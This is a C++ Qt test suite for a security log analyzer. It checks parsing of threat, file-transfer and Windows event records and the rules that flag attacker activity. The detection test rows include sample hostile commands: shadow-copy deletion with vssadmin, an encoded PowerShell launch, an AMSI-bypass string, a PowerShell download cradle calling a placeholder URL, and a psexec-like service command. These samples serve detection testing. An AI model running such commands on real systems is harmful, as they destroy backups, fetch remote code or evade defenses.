// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/aggregate/eventfindings.h"
#include "core/aggregate/flowviews.h"

#include <QRegularExpression>
#include <QtTest>

#include <set>

using namespace sightglass;

namespace {

using Pairs = std::vector<std::pair<std::string, std::string>>;

EventRecord record(const Pairs &fields, const std::string &message = {}, const std::string &source = {}, const std::string &host = {})
{
    EventRecord r;
    r.time = Timestamp::fromCivil(2026, 1, 2, 10, 0, 0);
    r.source = source;
    r.host = host;
    r.message = message;
    for (const auto &[name, value] : fields)
        r.fields.push_back({name, value});
    return r;
}

EventRecord windows(const std::string &provider, int id, const Pairs &fields, std::int64_t second = 0)
{
    EventRecord r = record({}, {}, provider, "pc1");
    r.time = Timestamp::fromMicroseconds(1'700'000'000'000'000 + second * 1'000'000);
    EventField event{"EventID", std::to_string(id)};
    event.head = true;
    r.fields.push_back(event);
    for (const auto &[name, value] : fields)
        r.fields.push_back({name, value});
    return r;
}

std::set<std::string> shown(const EventRecord &r)
{
    std::vector<FindingRuleId> found;
    findingsOf(r, found);
    std::set<std::string> ids;
    for (const FindingRuleId id : found)
        ids.insert(findingRules()[id].id);
    return ids;
}

EventRecord sftp(const std::string &message, const std::string &pid = "811")
{
    return record({{"pid", pid}}, message, "sftp-server", "srv");
}

constexpr const char *security = "Microsoft-Windows-Security-Auditing";
constexpr const char *sysmon = "Microsoft-Windows-Sysmon";

} // namespace

/// What records say of threats, transfers and findings, and the tables of them.
class TestFlows : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void threatOutcomes_data()
    {
        QTest::addColumn<QString>("action");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("outcome"); // empty: no threat
        QTest::newRow("blocked") << QStringLiteral("Blocked") << QStringLiteral("Trojan") << QStringLiteral("blocked threat");
        QTest::newRow("policy") << QStringLiteral("Blocked") << QStringLiteral("None") << QStringLiteral("blocked");
        QTest::newRow("policy, quoted") << QStringLiteral("Blocked") << QStringLiteral("\"None\"") << QStringLiteral("blocked");
        QTest::newRow("allowed") << QStringLiteral("Allowed") << QStringLiteral("Trojan") << QStringLiteral("allowed");
        QTest::newRow("clean") << QStringLiteral("Allowed") << QStringLiteral("NA") << QStringLiteral("");
        QTest::newRow("caution") << QStringLiteral("Caution") << QStringLiteral("-") << QStringLiteral("cautioned");
        QTest::newRow("dropped") << QStringLiteral("drop") << QStringLiteral("") << QStringLiteral("blocked");
        QTest::newRow("nobody knows") << QStringLiteral("<action>") << QStringLiteral("Trojan") << QStringLiteral("");
    }
    void threatOutcomes()
    {
        QFETCH(QString, action);
        QFETCH(QString, name);
        QFETCH(QString, outcome);
        const auto threat = threatOf(record({{"action", action.toStdString()}, {"threatname", name.toStdString()}}));
        QCOMPARE(threat ? QString::fromLatin1(threatOutcomeName(threat->outcome).data()) : QString(), outcome);
    }
    void threatFields()
    {
        // Names of Zscaler's feeds: key=value, JSON, LEEF; and CEF, which labels its own fields.
        const auto keyed = threatOf(record({{"action", "Blocked"}, {"threatname", "T"}, {"threatclass", "C"}, {"threatcategory", "G"}, {"urlcategory", "U"},
                                            {"url", "\"www.example.com/\""}, {"user", "anna"}, {"ClientIP", "10.0.0.1"}, {"clientpublicIP", "192.0.2.1"},
                                            {"serverip", "198.51.100.1"}, {"rulelabel", "R"}, {"reason", "why"}, {"transactionsize", "663"}, {"requestsize", "598"}}));
        QVERIFY(keyed);
        QCOMPARE(keyed->url, "www.example.com/");
        QCOMPARE(keyed->clientIp, "10.0.0.1");
        QCOMPARE(keyed->policy, "R");
        QCOMPARE(keyed->bytes, std::uint64_t{663});
        const auto json = threatOf(record({{"event.action", "Blocked"}, {"event.threatname", "None"}, {"event.malwarecat", "Spyware"}, {"event.eurl", "e"}, {"event.login", "b"},
                                           {"event.cip", "c"}, {"event.sip", "s"}, {"event.rulelabel", "None"}, {"event.reqsize", "2"}, {"event.respsize", "3"}}));
        QVERIFY(json);
        QCOMPARE(json->threatCategory, "Spyware");
        QCOMPARE(json->outcome, ThreatOutcome::BlockedThreat);
        QCOMPARE(json->user, "b");
        QCOMPARE(json->policy, std::string());
        QCOMPARE(json->bytes, std::uint64_t{5});
        const auto leef = threatOf(record({{"cat", "Blocked"}, {"threatname", "W32"}, {"usrName", "u"}, {"src", "1"}, {"dst", "2"}, {"policy", "p"}, {"srcBytes", "1"}, {"dstBytes", "9"}}));
        QVERIFY(leef);
        QCOMPARE(leef->serverIp, "2");
        QCOMPARE(leef->bytes, std::uint64_t{10});
        const auto cef = threatOf(record({{"act", "Blocked"}, {"cs5", "Eicar"}, {"cs5Label", "threatname"}, {"suser", "x"}, {"request", "r"}}));
        QVERIFY(cef);
        QCOMPARE(cef->name, "Eicar");
        // No field for threats: a firewall or an application that calls something an action.
        QVERIFY(!threatOf(record({{"action", "Blocked"}, {"user", "anna"}})));
        QVERIFY(!threatOf(windows(security, 4625, {{"action", "Blocked"}, {"threatname", "T"}})));
    }
    void detectionsOfDefender_data()
    {
        QTest::addColumn<int>("id");
        QTest::addColumn<QString>("action");
        QTest::addColumn<QString>("outcome"); // empty: none
        QTest::newRow("found") << 1116 << QStringLiteral("9") << QStringLiteral("detected");
        QTest::newRow("found by a scan") << 1006 << QStringLiteral("") << QStringLiteral("detected");
        QTest::newRow("quarantined") << 1117 << QStringLiteral("2") << QStringLiteral("blocked threat");
        QTest::newRow("removed") << 1007 << QStringLiteral("3") << QStringLiteral("blocked threat");
        QTest::newRow("blocked") << 1117 << QStringLiteral("10") << QStringLiteral("blocked threat");
        QTest::newRow("allowed") << 1117 << QStringLiteral("6") << QStringLiteral("allowed");
        QTest::newRow("nothing done") << 1117 << QStringLiteral("9") << QStringLiteral("detected");
        QTest::newRow("failed") << 1118 << QStringLiteral("2") << QStringLiteral("allowed");
        QTest::newRow("failed critically") << 1119 << QStringLiteral("2") << QStringLiteral("allowed");
        QTest::newRow("another event") << 1150 << QStringLiteral("2") << QString();
    }
    void detectionsOfDefender()
    {
        QFETCH(int, id);
        QFETCH(QString, action);
        QFETCH(QString, outcome);
        const Pairs fields{{"Threat Name", "Trojan:Win32/Wacatac.B!ml"}, {"Severity Name", "Severe"}, {"Category Name", "Trojan"}, {"Source Name", "Real-Time Protection"},
                           {"Detection User", "PC\\anna"}, {"Path", "file:_C:\\Users\\anna\\a.exe"}, {"Action ID", action.toStdString()}, {"Action Name", "Quarantine"},
                           {"Error Description", "in use"}};
        const auto threat = threatOf(windows("Microsoft-Windows-Windows Defender", id, fields));
        QCOMPARE(threat ? QString::fromLatin1(threatOutcomeName(threat->outcome).data()) : QString(), outcome);
        QVERIFY(!threatOf(windows("Somebody", id, fields)));
        if (!threat)
            return;
        QCOMPARE(threat->name, "Trojan:Win32/Wacatac.B!ml");
        QCOMPARE(threat->severity, "Severe");
        QCOMPARE(threat->threatCategory, "Trojan");
        QCOMPARE(threat->url, "file:_C:\\Users\\anna\\a.exe");
        QCOMPARE(threat->user, "PC\\anna");
        QCOMPARE(threat->action, "Quarantine");
        QCOMPARE(threat->policy, id == 1118 || id == 1119 ? "in use" : "Real-Time Protection");
        QVERIFY(mayBeDetection(static_cast<std::uint32_t>(id)));
    }
    void sftpgoLines()
    {
        const auto upload = transfersOf(record({{"sender", "Upload"}, {"remote_addr", "192.0.2.1:4711"}, {"size_bytes", "4242"}, {"username", "anna"}, {"file_path", "/a b"},
                                                {"connection_id", "SFTP_0123456789abcdef0123456789abcdef01234567_2"}, {"protocol", "SFTP"}}));
        QCOMPARE(upload.size(), std::size_t{1});
        QCOMPARE(upload[0].action, TransferAction::Upload);
        QCOMPARE(upload[0].clientIp, "192.0.2.1");
        QCOMPARE(upload[0].session, "0123456789abcdef0123456789abcdef01234567");
        QCOMPARE(upload[0].bytes, std::uint64_t{4242});
        QVERIFY(upload[0].complete);
        const auto broken = transfersOf(record({{"sender", "Download"}, {"size_bytes", "1"}, {"username", "anna"}, {"file_path", "/a"}, {"error", "EOF"}, {"remote_addr", "[2001:db8::1]:22"}}));
        QVERIFY(!broken[0].complete && !broken[0].refused);
        QCOMPARE(broken[0].clientIp, "2001:db8::1");
        const auto login = transfersOf(record({{"sender", "FTP"}, {"connection_id", "FTP_0_13"}}, "User \"b\"ob\" logged in with \"password\" from ip \"1.2.3.4\", TLS enabled? false"));
        QCOMPARE(login.size(), std::size_t{1});
        QCOMPARE(login[0].user, "b\"ob");
        QCOMPARE(login[0].clientIp, "1.2.3.4");
        const auto failed = transfersOf(record({{"sender", "connection_failed"}, {"client_ip", "1.2.3.4"}, {"username", ""}, {"protocol", "SSH"}}));
        QCOMPARE(failed[0].action, TransferAction::FailedLogin);
        QVERIFY(transfersOf(record({{"sender", "httpd"}}, "started")).empty());
    }
    void ftpLines()
    {
        const auto vsftpd = transfersOf(record({{"user", "anna"}}, "OK UPLOAD: Client \"::ffff:192.0.2.1\", \"/a, \"b\".bin\", 4242 bytes, 45.67Kbyte/sec"));
        QCOMPARE(vsftpd.size(), std::size_t{1});
        QCOMPARE(vsftpd[0].path, "/a, \"b\".bin");
        QCOMPARE(vsftpd[0].bytes, std::uint64_t{4242});
        QVERIFY(transfersOf(record({}, "[anna] FAIL UPLOAD: Client \"192.0.2.1\", \"/a\", 0.00Kbyte/sec", "vsftpd"))[0].refused);
        QCOMPARE(transfersOf(record({}, "[anna] FAIL LOGIN: Client \"192.0.2.1\"", "vsftpd"))[0].action, TransferAction::FailedLogin);
        QVERIFY(transfersOf(record({}, "CONNECT: Client \"192.0.2.1\"")).empty());
        const auto xfer = transfersOf(record({{"client", "h"}, {"bytes", "10"}, {"direction", "i"}, {"user", "anna"}, {"service", "ftp"}, {"completion", "i"}}, "/srv/b.bin"));
        QCOMPARE(xfer[0].action, TransferAction::Upload);
        QCOMPARE(xfer[0].protocol, "FTP");
        QVERIFY(!xfer[0].complete);
        const auto iis = transfersOf(record({{"c-ip", "192.0.2.1"}, {"cs-username", "anna"}, {"cs-method", "RETR"}, {"cs-uri-stem", "a"}, {"sc-status", "226"}, {"sc-bytes", "77"}, {"x-session", "s"}, {"x-fullpath", "/a"}}));
        QCOMPARE(iis[0].bytes, std::uint64_t{77});
        QCOMPARE(iis[0].path, "/a");
        QVERIFY(transfersOf(record({{"cs-method", "STOR"}, {"sc-status", "550"}, {"cs-bytes", "5"}}))[0].refused);
        QCOMPARE(transfersOf(record({{"cs-method", "[5]created"}, {"sc-status", "226"}}))[0].session, "5");
        QVERIFY(transfersOf(record({{"cs-method", "GET"}, {"sc-status", "200"}})).empty());
    }
    void sessionsOfSftpServer()
    {
        TransferSessions sessions;
        std::vector<Transfer> all;
        const auto say = [&](const std::string &message, const char *pid = "811") { sessions.add(transfersOf(sftp(message, pid)), all); };
        say("session opened for local user anna from [192.0.2.1]");
        say("open \"/e\" flags WRITE,CREATE mode 0664");
        say("close \"/e\" bytes read 0 written 0"); // an empty file was written
        say("close \"/both\" bytes read 3 written 4");
        say("forced close \"/f\" bytes read 9 written 0");
        say("remove name \"/x\" y\"");
        say("posix-rename old \"/a\" new \"/b\"");
        say("session closed for local user anna from [192.0.2.1]");
        say("session opened for local user ben from [192.0.2.2]"); // the process number is another's now
        say("close \"/e\" bytes read 1 written 0");
        say("close \"/lost\" bytes read 1 written 0", "9"); // began before the log
        QCOMPARE(all.size(), std::size_t{10});
        QCOMPARE(all[1].action, TransferAction::Upload);
        QCOMPARE(all[1].user, "anna");
        QCOMPARE(all[2].action, TransferAction::Upload);
        QCOMPARE(all[3].action, TransferAction::Download);
        QVERIFY(!all[4].complete);
        QCOMPARE(all[5].path, "/x\" y");
        QCOMPARE(all[6].target, "/b");
        QCOMPARE(all[8].user, "ben");
        QCOMPARE(all[8].clientIp, "192.0.2.2");
        QCOMPARE(all[9].user, std::string());
        QVERIFY(all[0].sessionNumber == all[6].sessionNumber && all[8].sessionNumber != all[0].sessionNumber && all[9].sessionNumber != all[8].sessionNumber);

        TransferTable table;
        ZoneClock clock("UTC");
        for (const Transfer &t : all)
            table.add(t, EventRef(LogId{1}, RowIndex{0}), 0, clock);
        QCOMPARE(table.totals().sessions, std::uint64_t{3});
        QCOMPARE(table.totals().uploads, std::uint64_t{2});
        QCOMPARE(table.totals().downloads, std::uint64_t{4});
        QCOMPARE(table.totals().incomplete, std::uint64_t{1});
        QCOMPARE(table.totals().uploadedBytes, std::uint64_t{4});
        QCOMPARE(table.totals().downloadedBytes, std::uint64_t{14});
        QCOMPARE(table.totals().deletes, std::uint64_t{1});
    }
    void sessionsOfIis()
    {
        TransferSessions sessions;
        std::vector<Transfer> all;
        const auto say = [&](const char *method, const char *stem, const char *status, const char *user) {
            sessions.add(transfersOf(record({{"c-ip", "192.0.2.1"}, {"cs-username", user}, {"cs-method", method}, {"cs-uri-stem", stem}, {"sc-status", status}, {"x-session", "s1"}})), all);
        };
        say("USER", "anna", "331", "-");
        say("PASS", "***", "530", "-");
        say("USER", "anna", "331", "-");
        say("PASS", "***", "230", "SRV\\anna");
        say("DELE", "a", "250", "SRV\\anna");
        QCOMPARE(all.size(), std::size_t{3});
        QCOMPARE(all[0].action, TransferAction::FailedLogin);
        QCOMPARE(all[0].user, "anna");
        QVERIFY(all[0].sessionNumber == 0);
        QCOMPARE(all[1].user, "SRV\\anna");
        QVERIFY(all[1].sessionNumber != 0 && all[1].sessionNumber == all[2].sessionNumber);
    }

    void rulesAreWhole()
    {
        std::set<std::string> ids;
        for (const FindingRule &rule : findingRules()) {
            QVERIFY2(ids.insert(rule.id).second, rule.id);
            QVERIFY2(*rule.title && *rule.explanation, rule.id);
            const QString attack = QString::fromLatin1(rule.attack);
            QVERIFY2(attack.isEmpty() || QRegularExpression(QStringLiteral("^T\\d{4}(\\.\\d{3})?$")).match(attack).hasMatch(), rule.attack);
        }
        // Words of conditions are compared with values in lower case.
        QVERIFY(shown(windows(sysmon, 1, {{"Image", "C:\\Windows\\System32\\CMD.EXE"}, {"CommandLine", "VSSADMIN.exe   Delete\tSHADOWS /all"}, {"ParentImage", "C:\\x.exe"}})).contains("shadow-copies"));
        QVERIFY(mayShowFinding(1102) && mayShowFinding(4625) && !mayShowFinding(60000) && !mayShowFinding(70000));
    }
    void findings_data()
    {
        QTest::addColumn<QString>("provider");
        QTest::addColumn<int>("id");
        QTest::addColumn<QStringList>("fields"); // name, value …
        QTest::addColumn<QString>("finding");    // empty: none
        const auto row = [](const char *name, const char *provider, int id, std::initializer_list<const char *> fields, const char *finding) {
            QStringList list;
            for (const char *field : fields)
                list.append(QString::fromLatin1(field));
            QTest::newRow(name) << QString::fromLatin1(provider) << id << list << QString::fromLatin1(finding);
        };
        row("cleared", "Microsoft-Windows-Eventlog", 1102, {"LogFileCleared.SubjectUserName", "x"}, "log-cleared");
        row("system log cleared", "Microsoft-Windows-Eventlog", 104, {}, "log-cleared");
        row("104 of another", "Somebody", 104, {}, "");
        row("defender", "Microsoft-Windows-Windows Defender", 1116, {"Threat Name", "EICAR"}, "defender-malware");
        row("service", "Service Control Manager", 7045, {"ImagePath", "C:\\Program Files\\a.exe"}, "service-installed");
        row("psexec-like", "Service Control Manager", 7045, {"ImagePath", "%COMSPEC% /C echo x > \\\\127.0.0.1\\C$\\o"}, "service-suspicious");
        row("rdp", security, 4624, {"LogonType", "10", "IpAddress", "192.0.2.1"}, "rdp-logon");
        row("console", security, 4624, {"LogonType", "2", "IpAddress", "-", "TargetUserName", "anna"}, "");
        row("kerberoast", security, 4769, {"TicketEncryptionType", "0x17", "ServiceName", "sql", "Status", "0x0"}, "kerberoasting");
        row("aes", security, 4769, {"TicketEncryptionType", "0x12", "ServiceName", "sql", "Status", "0x0"}, "");
        row("computer's service", security, 4769, {"TicketEncryptionType", "0x17", "ServiceName", "PC$", "Status", "0x0"}, "");
        row("dcsync", security, 4662, {"SubjectUserName", "eve", "Properties", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}, "dcsync");
        row("replication of a dc", security, 4662, {"SubjectUserName", "DC1$", "Properties", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}, "");
        row("admin", security, 4732, {"TargetSid", "S-1-5-32-544", "TargetUserName", "Administratoren"}, "admin-added");
        row("other group", security, 4732, {"TargetSid", "S-1-5-32-545", "TargetUserName", "Users"}, "");
        row("user", security, 4720, {"SubjectUserName", "eve", "TargetUserName", "new"}, "account-created");
        row("task", security, 4698, {"TaskName", "\\x", "TaskContent", "<Exec>C:\\a.exe</Exec>"}, "task-created");
        row("encoded", security, 4688, {"NewProcessName", "C:\\W\\powershell.exe", "CommandLine", "powershell -nop -enc ZQBjAGgA"}, "powershell-encoded");
        row("word, not powershell", security, 4688, {"NewProcessName", "C:\\W\\gcc.exe", "CommandLine", "gcc -enc x"}, "");
        row("amsi", "Microsoft-Windows-PowerShell", 4104, {"ScriptBlockText", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"}, "amsi-bypass");
        row("cradle", "Microsoft-Windows-PowerShell", 4104, {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x')"}, "powershell-download");
        row("plain script", "Microsoft-Windows-PowerShell", 4104, {"ScriptBlockText", "Get-ChildItem C:\\ | Sort-Object"}, "");
        row("lsass", sysmon, 10, {"SourceImage", "C:\\x.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1410"}, "lsass-access");
        row("office", sysmon, 1, {"Image", "C:\\W\\cmd.exe", "ParentImage", "C:\\O\\WINWORD.EXE", "CommandLine", "cmd"}, "shell-from-office");
        row("shell by hand", sysmon, 1, {"Image", "C:\\W\\notepad.exe", "ParentImage", "C:\\Windows\\explorer.exe", "CommandLine", "notepad.exe a.txt"}, "");
    }
    void findings()
    {
        QFETCH(QString, provider);
        QFETCH(int, id);
        QFETCH(QStringList, fields);
        QFETCH(QString, finding);
        Pairs pairs;
        for (qsizetype i = 0; i < fields.size(); i += 2)
            pairs.emplace_back(fields[i].toStdString(), fields[i + 1].toStdString());
        const auto ids = shown(windows(provider.toStdString(), id, pairs));
        QStringList found;
        for (const std::string &name : ids)
            found.append(QString::fromStdString(name));
        QVERIFY2(finding.isEmpty() ? found.isEmpty() : found.contains(finding), qPrintable(found.join(u' ')));
    }
    void bursts()
    {
        FindingTable table;
        const auto fail = [&table](std::int64_t second, const char *user, const char *from, std::uint64_t row) {
            table.addFailedLogon(user, from, "pc1", Timestamp::fromMicroseconds(second * 1'000'000), EventRef(LogId{1}, RowIndex{row}));
        };
        for (int i = 0; i < 9; ++i)
            fail(i * 10, "anna", "a", static_cast<std::uint64_t>(i));
        table.findBursts();
        QVERIFY(table.entries().empty()); // nine are no burst
        fail(700, "anna", "a", 9); // the first is eleven minutes ago
        table.findBursts();
        QVERIFY(table.entries().empty());
        fail(500, "anna", "a", 10);
        table.findBursts();
        QCOMPARE(table.entries().size(), std::size_t{1});
        const auto &guessing = table.entries().begin()->second;
        QCOMPARE(QString::fromLatin1(findingRules()[table.entries().begin()->first].id), QStringLiteral("password-guessing"));
        QCOMPARE(guessing.count, std::uint64_t{11} - 1); // 0 s to 500 s; at 700 s eight of them are within the window
        QCOMPARE(guessing.about, std::vector<std::string>{"anna"});
        for (int i = 0; i < 5; ++i)
            fail(5000 + i, ("u" + std::to_string(i)).c_str(), "b", static_cast<std::uint64_t>(20 + i));
        table.findBursts();
        QCOMPARE(table.entries().size(), std::size_t{2});
        QVERIFY(std::any_of(table.entries().begin(), table.entries().end(), [](const auto &e) { return e.second.about == std::vector<std::string>{"b"} && e.second.count == 5; }));
        // The same logons in another order give the same.
        std::vector<FailedLogon> forth, back;
        for (int i = 0; i < 30; ++i)
            forth.push_back({i * 20'000'000LL, 2, 3, 4, EventRef(LogId{1}, RowIndex{static_cast<std::uint64_t>(i)})});
        back.assign(forth.rbegin(), forth.rend());
        const auto a = logonBursts(forth), b = logonBursts(back);
        QCOMPARE(a.size(), std::size_t{1});
        QCOMPARE(a[0].events.size(), b[0].events.size());
        QCOMPARE(a[0].events.size(), std::size_t{30});
    }
    void tablesAddUp()
    {
        ThreatTable table;
        ZoneClock clock("Asia/Tokyo");
        Threat t;
        t.user = "anna";
        t.threatCategory = "Spyware";
        t.outcome = ThreatOutcome::BlockedThreat;
        t.time = Timestamp::fromCivil(2026, 1, 1, 16, 0, 0); // the next day in Tokyo
        table.add(t, EventRef(LogId{1}, RowIndex{7}), 42, clock);
        t.user.clear();
        t.time = Timestamp::none();
        t.outcome = ThreatOutcome::Allowed;
        table.add(t, EventRef(LogId{1}, RowIndex{8}), 43, clock);
        QCOMPARE(table.users(), std::size_t{1});
        QCOMPARE(table.blocked(), std::uint64_t{1});
        QCOMPARE(table.total(), std::uint64_t{2});
        QCOMPARE(dayText(table.days().rbegin()->first), "2026-01-02");
        QCOMPARE(table.days().begin()->first, noDay);
        const ThreatView view = ThreatView::of(std::make_shared<const ThreatTable>(table)); // a copy has its own texts
        QCOMPARE(view.top[0].size(), std::size_t{1});
        QCOMPARE(view.table->text(view.top[0][0].text), "Spyware"); // no name: what else is known
        QCOMPARE(view.events(ThreatBy::User, view.table->rows()[0].user), (std::vector<EventRef>{EventRef(LogId{1}, RowIndex{7})}));
        QCOMPARE(view.table->threat(view.table->rows()[1]), t);
        // Days before 1970 and their text.
        QCOMPARE(dayText(dayOf(Timestamp::fromCivil(1969, 12, 31, 23, 0, 0), clock)), "1970-01-01");
        FlowTexts texts;
        const std::string longText(5000, 'x');
        QCOMPARE(texts.at(texts.id(longText)).size(), std::size_t{4096});
        QCOMPARE(texts.id(longText), texts.id(longText));
    }
};

QTEST_GUILESS_MAIN(TestFlows)
#include "tst_flows.moc"
